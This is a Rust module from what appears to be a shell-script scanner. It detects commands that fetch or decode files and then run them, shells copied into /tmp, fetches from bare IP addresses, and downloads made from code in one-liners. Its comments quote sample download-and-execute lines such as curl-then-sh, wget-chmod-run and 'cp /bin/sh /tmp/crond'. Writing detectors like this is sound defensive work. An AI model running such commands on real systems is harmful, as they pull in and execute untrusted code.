//! Files that are fetched or decoded, and run later in the same text.

use super::roles::{FETCHERS, INTERPRETERS, SHELLS, decodes, fetches};
use super::script::{Command, Script};

/// `curl -o x URL; sh x`, `wget URL/x && chmod +x x && ./x`.
pub(super) fn downloads_and_runs(script: &Script, brings: impl Fn(&Command) -> Vec<String>) -> bool {
    let mut files: Vec<String> = Vec::new();
    for command in script.top() {
        let inner = command.unwrapped();
        let command = inner.as_ref().unwrap_or(command);
        let first = command.words.first().map_or("", |word| &*word.text);
        let runs = |file: &str| files.iter().any(|known| same_file(known, file));
        let is_shell = SHELLS.contains(&command.name())
            || INTERPRETERS.contains(&command.name())
            || matches!(command.name(), "." | "source");
        if (first.contains('/') && runs(first)) || (is_shell && command.args().any(runs)) {
            return true;
        }
        // What was brought goes by another name from now on.
        let renames = matches!(command.name(), "cat" | "cp" | "mv") && command.args().any(runs);
        files.extend(brings(command));
        if renames {
            let written =
                command.redirects.iter().filter(|(op, _)| op.contains('>')).map(|(_, file)| &*file.text);
            let last = command.args().last().filter(|_| command.name() != "cat");
            files.extend(written.chain(last).map(str::to_owned));
        }
        // `curl URL | tar x -C DIR`: what lies there came from the network.
        let unpacks = matches!(command.name(), "tar" | "unzip" | "cpio")
            && script.top().any(|other| other.pipeline == command.pipeline && fetches(other));
        if unpacks {
            let args: Vec<&str> = command.args().collect();
            let folder =
                args.iter().position(|arg| matches!(*arg, "-C" | "-d")).and_then(|at| args.get(at + 1));
            files.extend(folder.map(|folder| format!("{}/", folder.trim_end_matches('/'))));
        }
    }
    false
}

/// `cp /bin/sh /tmp/crond`: what has been copied to where everybody can write.
pub(super) fn copied_into(command: &Command) -> Vec<String> {
    let open = |file: &&str| ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|place| file.starts_with(place));
    let last = command.args().last().filter(open).filter(|_| command.name() == "cp");
    last.map(str::to_owned).into_iter().collect()
}

/// `base64 -d x > y`: y.
pub(super) fn decoded_into(command: &Command) -> Vec<String> {
    let packed = matches!(
        command.name(),
        "rev" | "tr" | "gpg" | "gunzip" | "zcat" | "bzcat" | "xzcat" | "gzip" | "bzip2" | "xz" | "zstd"
    );
    if !decodes(command) || packed || matches!(command.name(), "echo" | "printf") {
        return Vec::new();
    }
    let targets =
        command.redirects.iter().filter(|(op, _)| op.contains('>')).map(|(_, target)| target.text.clone());
    // `openssl enc -d -in x -out y`
    let args: Vec<&str> = command.args().collect();
    let named = args.windows(2).filter(|two| two[0] == "-out").map(|two| two[1].to_owned());
    targets.filter(|file| file.contains('/') || file.contains('.')).chain(named).collect()
}

/// `wget 198.51.100.2/x.tgz; tar xf x.tgz; ./run`: what comes from a machine without a name is run, whatever it was packed in.
pub(super) fn runs_from_bare_address(script: &Script) -> bool {
    let mut came = false;
    for command in script.top() {
        let inner = command.unwrapped();
        let command = inner.as_ref().unwrap_or(command);
        let first = command.words.first().map_or("", |word| &*word.text);
        if came && (first.starts_with("./") || first.starts_with("/tmp/") || first.starts_with("/dev/shm/")) {
            return true;
        }
        came |= fetches(command) && FETCHERS.contains(&command.name()) && command.args().any(is_bare_address);
    }
    false
}

/// `http://198.51.100.2/x`, `198.51.100.2:80/x`: by address, without a certificate, and not this machine.
fn is_bare_address(url: &str) -> bool {
    let rest = url.strip_prefix("http://").or_else(|| url.strip_prefix("ftp://")).unwrap_or(url);
    let Some((host, path)) = rest.split_once('/') else { return false };
    let host = host.split(':').next().unwrap_or(host);
    let numbers: Vec<&str> = host.split('.').collect();
    let is_address = numbers.len() == 4 && numbers.iter().all(|number| number.parse::<u8>().is_ok());
    is_address && !host.starts_with("127.") && !path.is_empty()
}

/// The files of code that fetches: `perl -e 'getstore("http://h/x", "/tmp/x")'`.
pub(super) fn fetched_by_code(command: &Command) -> Vec<String> {
    let keeps = [
        "getstore",
        "urlretrieve",
        "file_put_contents",
        "copy(",
        ".write(",
        "createWriteStream",
        "IO.copy_stream",
    ];
    let code =
        command.args().filter(|arg| arg.contains("://") && keeps.iter().any(|call| arg.contains(call)));
    let quoted = code.flat_map(|code| code.split(['"', '\'']).skip(1).step_by(2));
    let is_name = |text: &&str| !text.contains("://") && (text.contains(['/', '.']) || text.len() > 2);
    quoted.filter(is_name).map(str::to_owned).collect()
}

/// `pip download x -d DIR`
pub(super) fn downloads_packages(command: &Command) -> bool {
    command.name().starts_with("pip") && command.args().next() == Some("download")
}

/// The files that a fetcher writes.
pub(super) fn outputs(command: &Command) -> Vec<String> {
    let args: Vec<&str> = command.args().collect();
    let mut files: Vec<String> = command.redirects.iter().map(|(_, target)| target.text.clone()).collect();
    for (at, arg) in args.iter().enumerate() {
        let takes_next = (arg.starts_with('-') && !arg.starts_with("--") && arg.ends_with(['o', 'O']))
            || matches!(*arg, "--output" | "--output-document");
        if takes_next && let Some(next) = args.get(at + 1) {
            files.push((*next).to_owned());
        }
        let path = arg.split(['?', '#']).next().unwrap_or(arg);
        let names_file = matches!(command.name(), "lwp-download" | "ftpget" | "tftp" | "scp" | "ftp");
        if names_file && !path.contains("://") && !path.contains(':') {
            files.push(path.to_owned());
        }
        if path.contains('/')
            && !arg.starts_with('-')
            && let Some(last) = path.rsplit('/').next().filter(|last| !last.is_empty())
        {
            files.push(last.to_owned());
        }
    }
    if args.first() == Some(&"download")
        && let Some(folder) =
            args.iter().position(|arg| matches!(*arg, "-d" | "--dest")).and_then(|at| args.get(at + 1))
    {
        files.push(format!("{}/", folder.trim_end_matches('/')));
    }
    files.retain(|file| !file.starts_with('-') && file != "/dev/null" && !file.starts_with('&'));
    files
}

fn same_file(known: &str, file: &str) -> bool {
    let plain = |text: &str| text.trim_start_matches("./").to_owned();
    let (known, file) = (plain(known), plain(file));
    let named = !known.contains('/') && file.rsplit('/').next() == Some(known.as_str());
    (known == file || named || known.len() > 1 && known.ends_with('/') && file.starts_with(&known))
        && known.bytes().any(|byte| byte.is_ascii_alphabetic())
}
